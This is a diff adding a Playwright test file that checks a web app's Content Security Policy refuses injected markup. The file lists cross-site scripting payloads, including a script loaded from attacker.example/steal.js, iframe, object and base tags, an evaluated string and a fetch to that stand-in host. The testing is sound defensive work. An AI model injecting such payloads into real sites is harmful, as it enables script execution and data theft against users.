@@ -1,0 +1,54 @@
+import { routes } from '@tablee/domain'
+import { createPerson } from '../support/person.ts'
+import { signIn } from '../support/steps.ts'
+import { expect, type Page, test } from '../support/test.ts'
+
+/** What an injection would try, and the directive that stops it; `window.stolen` tells whether one of them ran. */
+const injections = [
+  ['script-src', '<script>window.stolen = true</script>'],
+  ['script-src', '<img src="/nowhere.png" onerror="window.stolen = true">'],
+  ['script-src', '<script src="https://attacker.example/steal.js"></script>'],
+  ['frame-src', '<iframe src="https://attacker.example/"></iframe>'],
+  ['img-src', '<img src="https://attacker.example/?seen">'],
+  ['object-src', '<object data="https://attacker.example/x.swf"></object>'],
+  ['base-uri', '<base href="https://attacker.example/">'],
+] as const
+
+/** Puts markup into the page and takes it out again. */
+async function inject(page: Page, markup: string): Promise<void> {
+  await page.evaluate((markup) => {
+    // Not innerHTML, which runs no script element anyhow.
+    const place = document.createElement('div')
+    place.append(document.createRange().createContextualFragment(markup))
+    document.body.append(place)
+    return new Promise((resolve) => setTimeout(() => resolve(place.remove()), 100))
+  }, markup)
+}
+
+test('markup that somebody got into a page does nothing, on a public page and in the app', async ({
+  page,
+  refused,
+}) => {
+  for (const open of [() => page.goto(routes.home), async () => signIn(page, await createPerson())]) {
+    await open()
+    await expect(page.getByRole('heading', { level: 1 })).not.toHaveText('Tablée')
+    for (const [directive, markup] of injections) {
+      await inject(page, markup)
+      expect(refused.splice(0).join('\n'), markup).toMatch(new RegExp(`^${directive}`, 'm'))
+    }
+    expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
+    // A base element is spoken of again as long as anything looks an address up.
+    refused.length = 0
+  }
+})
+
+test('a text does not become a program, and nothing is sent to another site', async ({ page, refused }) => {
+  await page.goto(routes.home)
+  await page.evaluate(() => setTimeout('window.stolen = true'))
+  await expect.poll(() => refused, 'a text that is evaluated').toHaveLength(1)
+  const sent = page.evaluate(() => fetch('https://attacker.example/', { mode: 'no-cors' }))
+  await expect(sent).rejects.toThrow()
+  await expect.poll(() => refused, 'a request to another site').toHaveLength(2)
+  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
+  refused.length = 0
+})
